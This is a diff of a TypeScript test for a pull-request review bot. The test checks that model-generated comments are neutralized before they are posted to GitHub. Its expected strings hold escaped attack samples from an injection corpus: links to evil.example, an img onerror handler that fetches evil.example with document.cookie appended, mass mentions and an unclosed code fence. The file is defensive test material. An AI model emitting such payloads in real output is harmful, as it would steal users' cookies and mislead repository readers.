@@ -4,7 +4,7 @@ import { neutralizeModelText } from "../../src/security/neutralize-model-text.js
 import { sanitizeCodeLine } from "../../src/security/sanitize-code-line.js";
 import { sanitizeUntrustedText } from "../../src/security/sanitize-untrusted-text.js";
 import { type InjectionCase, injectionCorpus } from "../fixtures/injection-corpus.js";
-import { stripCode } from "./strip-code.js";
+import { findMarkdownHazards } from "../helpers/markdown-hazards.js";
 
 /** How the pipeline prepares each kind of pull-request content for the prompt. */
 function toModelInput({ where, text }: InjectionCase): string {
@@ -45,11 +45,12 @@ const expectedModelInput: Record<string, string> = {
 const expectedPosted: Record<string, string> = {
   "model echoes a mass mention": "Heads-up `@org/everyone` and `@security-team`: this needs a look.",
   "model links to an evil host":
-    "See the fix (`https://evil.example/steal?c=1`) and `https://evil.example/more` or `https://evil.example/x`.",
+    "See \\[the fix\\](`https://evil.example/steal?c=1)` and `https://evil.example/more` or &lt;`https://evil.example/x>.`",
   "model emits raw HTML with an onerror handler":
-    "Preview: &lt;img src=x onerror=\"fetch('`https://evil.example/'+document.cookie`)\"> &lt;script>alert(1)&lt;/script>",
+    "Preview: &lt;img src=x onerror=\"fetch('`https://evil.example/'+document.cookie)\">` &lt;script\\>alert(1)&lt;/script\\>",
   "model forges the app's hidden marker": "No issues.\n",
-  "model leaves a code fence open": "Use this:\n```suggestion\nconst x = 1;\n\n```",
+  // A suggestion written in prose is never offered to commit: only a finding's checked `suggestion` is.
+  "model leaves a code fence open": "Use this:\n```\nconst x = 1;\n\n```",
 };
 
 const modelBound = injectionCorpus.filter((c) => c.where !== "model-output");
@@ -87,10 +88,8 @@ describe("injection corpus: model output on its way to GitHub", () => {
     const posted = neutralizeModelText(injection.text, { owner: "acme", repo: "shop", maxLength: 65_536 });
     expect(posted).toBe(expectedPosted[injection.name]);
 
-    const live = stripCode(posted);
-    expect(live).not.toMatch(/(?<![A-Za-z0-9_])@[A-Za-z0-9]/);
-    expect(live).not.toMatch(/https?:\/\/|www\./i);
-    expect(live).not.toMatch(/<[a-z!/]/i);
+    // Rendered as GitHub would: no mention, link, image or raw HTML.
+    expect(findMarkdownHazards(posted, { owner: "acme", repo: "shop" })).toEqual([]);
     expect(posted).not.toContain("<!--");
     expect((posted.match(/^```/gm) ?? []).length % 2).toBe(0);
   });
